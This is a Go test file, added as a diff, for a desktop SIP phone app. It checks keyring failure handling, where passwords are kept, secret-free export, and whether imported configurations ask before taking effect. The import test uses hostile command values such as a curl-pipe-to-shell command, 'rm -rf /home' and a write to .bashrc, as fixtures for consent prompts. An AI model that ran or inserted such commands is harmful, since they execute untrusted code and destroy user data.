@@ -1,0 +1,488 @@
+package ui
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"fyne.io/fyne/v2/test"
+
+	"calla/account"
+	"calla/account/jssip"
+	"calla/netsip"
+	"calla/netsip/sandbox"
+	"calla/phone"
+	"calla/ui/widget"
+)
+
+// trouble is a keyring that gives and takes nothing, at once or after a while.
+type trouble struct {
+	err  error
+	wait time.Duration // as long as Calla waits for a keyring that hangs, made short
+	open bool          // it works after all
+	account.Session
+}
+
+func (k *trouble) fails(ctx context.Context) error {
+	if k.open {
+		return nil
+	}
+	select {
+	case <-time.After(k.wait):
+	case <-ctx.Done():
+	}
+	return k.err
+}
+
+func (k *trouble) Get(ctx context.Context, id string) (account.Secret, error) {
+	if err := k.fails(ctx); err != nil {
+		return account.Secret{}, err
+	}
+	return k.Session.Get(ctx, id)
+}
+
+func (k *trouble) Set(ctx context.Context, id string, s account.Secret) error {
+	if err := k.fails(ctx); err != nil {
+		return err
+	}
+	return k.Session.Set(ctx, id, s)
+}
+
+func (k *trouble) Delete(ctx context.Context, id string) error {
+	if err := k.fails(ctx); err != nil {
+		return err
+	}
+	return k.Session.Delete(ctx, id)
+}
+
+func (w atWork) EnterPassword(id string, pw netsip.Secret, p account.SecretPlace, done func(error)) {
+	w.Phone.EnterPassword(id, pw, p, func(err error) { w.done <- func() { done(err) } })
+}
+
+// keeping is the window over a real phone with a profile on disk and a keyring in trouble.
+type keeping struct {
+	*app
+	w       atWork
+	dir     string
+	keyring *trouble
+}
+
+func openKeeping(t *testing.T, keyring *trouble) *keeping {
+	t.Helper()
+	dir := t.TempDir()
+	store, found, err := account.Open(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	server := sandbox.New(sandbox.Options{})
+	server.Close() // nobody is to be reached
+	p, err := phone.New(phone.Options{
+		Store: store, Loaded: found, Keeper: account.NewKeeper(keyring, new(account.Session), account.NewSecretsFile(dir)), Version: "test",
+		Dial: server.Dial,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := atWork{p, make(chan func(), 1)}
+	a := newApp(test.NewTempApp(t), w, Options{})
+	a.second.do, a.meters.do = func(func()) {}, func(func()) {}
+	a.aside = func(func()) {} // no checks
+	t.Cleanup(func() {
+		a.second.set(false)
+		a.meters.set(false)
+		p.Close()
+		_ = store.Close()
+	})
+	return &keeping{a, w, dir, keyring}
+}
+
+// answer waits for the phone's answer and lets the window take it.
+func (k *keeping) answer(t *testing.T) {
+	t.Helper()
+	select {
+	case answer := <-k.w.done:
+		answer()
+	case <-time.After(20 * time.Second):
+		t.Fatal("no answer")
+	}
+}
+
+// choose presses a button of the question where to keep the password.
+func (k *keeping) choose(t *testing.T, label string) {
+	t.Helper()
+	if k.main.sheet == nil {
+		t.Fatalf("nothing is asked where %q was to be chosen", label)
+	}
+	for _, b := range laidOut[*widget.Button](k.main.sheet.pop) {
+		if b.Label() == label {
+			test.Tap(b)
+			return
+		}
+	}
+	t.Fatalf("%q is not offered", label)
+}
+
+// shown is how the only account is shown, once that is so.
+func (k *keeping) shown(t *testing.T, is func(phone.AccountState) bool) phone.AccountState {
+	t.Helper()
+	limit := time.Now().Add(20 * time.Second)
+	for {
+		s := k.w.State()
+		if len(s.Accounts) == 1 && is(s.Accounts[0]) {
+			k.update(s)
+			return s.Accounts[0]
+		}
+		if time.Now().After(limit) {
+			t.Fatalf("accounts %+v", s.Accounts)
+		}
+		time.Sleep(time.Millisecond)
+	}
+}
+
+// clearText lists the files of the profile that hold the password.
+func (k *keeping) clearText(t *testing.T) string {
+	t.Helper()
+	var list []string
+	entries, err := os.ReadDir(k.dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range entries {
+		if data, err := os.ReadFile(filepath.Join(k.dir, e.Name())); err == nil && strings.Contains(string(data), "s3crét") {
+			list = append(list, e.Name())
+		}
+	}
+	return strings.Join(list, " ")
+}
+
+// TestPasswordThatTheKeyringDoesNotTakeIsAskedAbout: in the wizard, in the form and where the password is entered, whatever
+// is wrong with the keyring. Until the user has chosen, it is nowhere; then it is where was chosen, and the pages say so.
+//
+// Holds: kept-secrets
+func TestPasswordThatTheKeyringDoesNotTakeIsAskedAbout(t *testing.T) {
+	const password = "s3crét"
+	config := netsip.Config{URI: "sip:alice@example.com", WSServers: []netsip.Server{{WSURI: "wss://sip.example.com"}}, StunServers: []string{}}
+	ways := map[string]func(t *testing.T, k *keeping){
+		"wizard": func(_ *testing.T, k *keeping) {
+			k.main.openWizardDetails()
+			w := k.main.page.(*wizard)
+			w.uri.SetText("alice@example.com")
+			w.password.SetText(password)
+			w.goOn()
+			w.server.SetText("wss://sip.example.com")
+			w.goOn()
+			w.goOn() // on from the checks
+		},
+		"form": func(t *testing.T, k *keeping) {
+			a, err := account.New(config)
+			if err != nil {
+				t.Fatal(err)
+			}
+			k.main.open(newForm(k.app, a, true))
+			f := k.main.page.(*form)
+			typeInto(f.fields["password"], password)
+			test.Tap(f.save)
+		},
+		"enter password": func(t *testing.T, k *keeping) {
+			a, err := account.New(config)
+			if err != nil {
+				t.Fatal(err)
+			}
+			k.w.SaveAccount(a, account.Secret{}, account.SecretKeyring, func(err error) {
+				if err != nil {
+					t.Fatal(err)
+				}
+			})
+			k.answer(t)
+			shown := k.shown(t, func(phone.AccountState) bool { return true })
+			if words := keptWords(shown); words != "None is kept." {
+				t.Errorf("before: %q", words)
+			}
+			k.main.askPassword(shown.ID)
+			entry := k.main.win.Canvas().Focused().(*widget.Entry)
+			entry.SetText(password)
+			entry.OnSubmitted(password)
+		},
+	}
+	keyrings := []struct {
+		name string
+		err  error
+		told string
+	}{
+		{"absent", account.ErrKeyringAbsent, "This system has no keyring that can be used."},
+		{"locked", account.ErrKeyringLocked, "The keyring is locked and waits to be unlocked."},
+		{"hanging", account.ErrKeyringStuck, "The keyring does not answer."},
+		{"refusing", errors.New("org.freedesktop.Secret.Error.NoSession"), "NoSession"},
+		{"too small", account.ErrTooLarge, "too long for a keyring"},
+		{"failing in the middle", context.DeadlineExceeded, "deadline exceeded"},
+	}
+	for _, keyring := range keyrings {
+		for name, way := range ways {
+			t.Run(keyring.name+", "+name, func(t *testing.T) {
+				k := openKeeping(t, &trouble{err: keyring.err, wait: 20 * time.Millisecond})
+				way(t, k)
+				k.answer(t)
+				if k.main.sheet == nil {
+					t.Fatal("nothing is asked")
+				}
+				text := ""
+				for _, p := range laidOut[*widget.Text](k.main.sheet.pop) {
+					text += p.Text() + " "
+				}
+				if !strings.Contains(text, keyring.told) {
+					t.Errorf("told %q, want %q", text, keyring.told)
+				}
+				if b, ok := k.main.win.Canvas().Focused().(*widget.Button); !ok || b.Label() != "For this session only" {
+					t.Error("keeping it nowhere is not the first choice")
+				}
+				if files := k.clearText(t); files != "" {
+					t.Errorf("written to %s before anything was chosen", files)
+				}
+				if s := k.w.State(); len(s.Accounts) > 0 && s.Accounts[0].SecretAtHand {
+					t.Error("said to be kept before anything was chosen")
+				}
+				k.choose(t, "For this session only")
+				k.answer(t)
+				shown := k.shown(t, func(a phone.AccountState) bool { return a.SecretAtHand })
+				if words := keptWords(shown); words != "Kept until Calla is closed." {
+					t.Errorf("for this session: %q", words)
+				}
+				if files := k.clearText(t); files != "" {
+					t.Errorf("for this session, and written to %s", files)
+				}
+				page := newAccountPage(k.app, shown.ID)
+				page.update(k.state, time.Now())
+				if facts := page.facts.shown; !strings.Contains(figureNamed(facts, "Password"), "until Calla is closed") {
+					t.Errorf("the account's page says %q", figureNamed(facts, "Password"))
+				}
+				k.moveFrom(t, shown.ID)
+			})
+		}
+	}
+}
+
+// moveFrom moves a password that is kept for this session into the file and then, when that works, into the keyring.
+func (k *keeping) moveFrom(t *testing.T, id string) {
+	t.Helper()
+	move := func(label string) *form {
+		if k.main.page != nil {
+			k.main.dropPage()
+		}
+		k.main.editAccount(id)
+		f := k.main.page.(*form)
+		f.choosePlace()
+		k.choose(t, label)
+		test.Tap(f.save)
+		k.answer(t)
+		return f
+	}
+	help := func() string {
+		k.main.editAccount(id)
+		f := k.main.page.(*form)
+		defer k.main.dropPage()
+		return f.fields["password"].help.Text()
+	}
+	f := move("In this computer's keyring")
+	if k.main.sheet == nil || f.kept != account.SecretSession || k.clearText(t) != "" {
+		t.Error("a keyring that does not take it is not told")
+	}
+	k.main.closeSheet()
+	f.touched = false
+	move("Store in a file readable by this user")
+	k.shown(t, func(a phone.AccountState) bool { return a.SecretKept == account.SecretFile })
+	if k.clearText(t) != "secrets.json" || !strings.Contains(help(), "Kept in a file that only you can read.") {
+		t.Errorf("in a file: %q, told %q", k.clearText(t), help())
+	}
+	k.keyring.open = true
+	move("In this computer's keyring")
+	k.shown(t, func(a phone.AccountState) bool { return a.SecretKept == account.SecretKeyring })
+	if k.clearText(t) != "" || !strings.Contains(help(), "Kept in this computer's keyring.") {
+		t.Errorf("in the keyring: %q, told %q", k.clearText(t), help())
+	}
+}
+
+func figureNamed(all []figure, what string) string {
+	for _, f := range all {
+		if f.what == what {
+			return f.value
+		}
+	}
+	return ""
+}
+
+// TestForeignConfigurationAsksInTheWindow: what a pasted configuration wants of this computer is shown in full and left out
+// unless the user switches it on, each by itself, and asked again with the next one.
+//
+// Holds: foreign-configuration
+func TestForeignConfigurationAsksInTheWindow(t *testing.T) {
+	for _, c := range []struct {
+		name, text string
+		asked      []string // parameters
+		shown      string
+	}{
+		{"a command", `{uri:'a@b.example', ws_servers:'wss://h', calla:{log_command:'sh -c "curl x | sh"'}}`, []string{"calla.log_command"}, `sh -c "curl x | sh"`},
+		{"a command in JSON", `{"uri":"a@b.example","ws_servers":"wss://h","calla":{"log_command":"rm -rf /home"}}`, []string{"calla.log_command"}, "rm -rf /home"},
+		{"a file to write", `{uri:'a@b.example', ws_servers:'wss://h', calla:{log_file:'/home/a/.bashrc'}}`, []string{"calla.log_file"}, "/home/a/.bashrc"},
+		{"certificate and key", `{uri:'a@b.example', ws_servers:'wss://h', calla:{client_certificate:'/c.pem', client_key:'/k.pem'}}`, []string{"calla.client_certificate", "calla.client_key"}, "/k.pem"},
+		{"authorities", `{uri:'a@b.example', ws_servers:'wss://h', calla:{tls_ca:'/ca.pem'}}`, []string{"calla.tls_ca"}, "/ca.pem"},
+		{
+			"all of it in a script", `var c = {uri:'a@b.example', ws_servers:'wss://h', calla:{log_command:'a', log_file:'/b', client_certificate:'/c', client_key:'/d', tls_ca:'/e'}}; new JsSIP.UA(c)`,
+			[]string{"calla.client_certificate", "calla.client_key", "calla.tls_ca", "calla.log_file", "calla.log_command"},
+			"/d",
+		},
+		{"nothing", `{uri:'a@b.example', ws_servers:'wss://h'}`, nil, ""},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			var got netsip.Config
+			i := newImporter(nil, func(c netsip.Config) { got = c })
+			open(t, Options{}).main.openSheet("Import", i.object, i.use)
+			for range 2 { // the answer holds for one text
+				i.text.SetText("")
+				i.text.SetText(c.text)
+				switches := laidOut[*widget.Switch](i.object)
+				if len(switches) != len(c.asked) {
+					t.Fatalf("%d questions, want %q", len(switches), c.asked)
+				}
+				text := ""
+				for _, p := range laidOut[*widget.Text](i.found) {
+					text += p.Text() + "\n"
+				}
+				if !strings.Contains(text, c.shown) {
+					t.Errorf("%q is not shown in %q", c.shown, text)
+				}
+				test.Tap(i.use)
+				if left := account.LocalSettings(got); len(left) != 0 || got.URI == "" {
+					t.Fatalf("taken over unasked: %+v", left)
+				}
+				for n, s := range switches {
+					if s.On() {
+						t.Error("on before the user said so")
+					}
+					test.Tap(s)
+					test.Tap(i.use)
+					if taken := account.LocalSettings(got); len(taken) != n+1 && c.name != "nothing" {
+						t.Errorf("after %d yes: %+v", n+1, taken)
+					}
+				}
+			}
+		})
+	}
+}
+
+// TestExportFromTheWindowCarriesNoIdentity: nor passwords, unless each is asked for.
+//
+// Holds: export
+func TestExportFromTheWindowCarriesNoIdentity(t *testing.T) {
+	for _, c := range []struct {
+		name               string
+		secrets, instance  bool
+		password, identity bool
+	}{
+		{"as it opens", false, false, false, false},
+		{"with passwords", true, false, true, false},
+		{"with the identity", false, true, false, true},
+		{"with both", true, true, true, true},
+		{"asked for and taken back", false, false, false, false},
+	} {
+		names, _ := exportForms()
+		for form, name := range names {
+			t.Run(c.name+", "+name, func(t *testing.T) {
+				full := officeAccount(t).Config
+				full.Password = "s3cret"
+				bare, _ := account.SplitSecret(full)
+				e := newExporter(bare, full)
+				open(t, Options{}).main.openSheet("Export", e.object)
+				e.form.Choose(form)
+				taps := 1
+				if strings.Contains(c.name, "back") {
+					taps = 2
+				}
+				for range taps {
+					if c.secrets || taps == 2 {
+						test.Tap(e.secrets)
+					}
+					if c.instance || taps == 2 {
+						test.Tap(e.instance)
+					}
+				}
+				text := e.text.Text
+				if strings.Contains(text, "s3cret") != c.password || strings.Contains(text, full.InstanceID) != c.identity || strings.Contains(text, "office") {
+					t.Error(text)
+				}
+				if in, err := jssip.Import([]byte(text), 0); err != nil || in.Config.URI != full.URI {
+					t.Errorf("it cannot be imported again: %v", err)
+				}
+			})
+		}
+	}
+}
+
+// TestAllNoticesCanBeRead: the banner shows one thing at a time, and each in its turn.
+//
+// Holds: account-file
+func TestAllNoticesCanBeRead(t *testing.T) {
+	notice := func(id string, a phone.Action) phone.Notice {
+		return phone.Notice{ID: id, Problem: phone.Problem{Title: id, Why: "Why " + id + ".", Action: a}}
+	}
+	for _, c := range []struct {
+		name    string
+		notices []phone.Notice
+		account bool // has a problem too
+	}{
+		{"one", []phone.Notice{notice("a", 0)}, false},
+		{"two", []phone.Notice{notice("a", 0), notice("b", 0)}, false},
+		{"a damaged file and another", []phone.Notice{notice("a", phone.ActionStartEmpty), notice("b", 0)}, false},
+		{"two and the account's", []phone.Notice{notice("a", 0), notice("b", 0)}, true},
+		{"five", []phone.Notice{notice("a", 0), notice("b", 0), notice("c", 0), notice("d", 0), notice("e", phone.ActionStartEmpty)}, true},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			o := open(t, Options{})
+			s := idle()
+			s.Notices = c.notices
+			want := map[string]bool{}
+			for _, n := range c.notices {
+				want[n.Problem.Title] = true
+			}
+			if c.account {
+				s.Accounts[0].Problem = &phone.Problem{Title: "the account's", Action: phone.ActionRetry}
+				want["the account's"] = true
+			}
+			o.update(s)
+			b := o.main.banner
+			for range len(want) {
+				delete(want, b.title.Text())
+				o.update(s) // a new State does not turn the page
+				test.Tap(b.next)
+			}
+			if len(want) != 0 {
+				t.Errorf("never shown: %v", want)
+			}
+			if b.next.Visible() != (len(c.notices) > 1 || c.account) {
+				t.Error("the way to the next one is not there, or leads nowhere")
+			}
+		})
+	}
+}
+
+// TestStartEmptyIsAskedAndDone: the way out of a damaged account file.
+func TestStartEmptyIsAskedAndDone(t *testing.T) {
+	o := open(t, Options{})
+	s := phone.State{Notices: []phone.Notice{{ID: "read only", Problem: phone.Problem{Title: "The account file cannot be used.", Action: phone.ActionStartEmpty}}}}
+	o.update(s)
+	b := o.main.banner
+	if b.action.Label() != "Start empty…" || b.dismiss.Visible() {
+		t.Errorf("%q", b.action.Label())
+	}
+	test.Tap(b.action)
+	o.expect(t)
+	for _, button := range laidOut[*widget.Button](o.main.sheet.pop) {
+		if button.Label() == "Start empty" {
+			test.Tap(button)
+		}
+	}
+	o.expect(t, "start empty")
+}
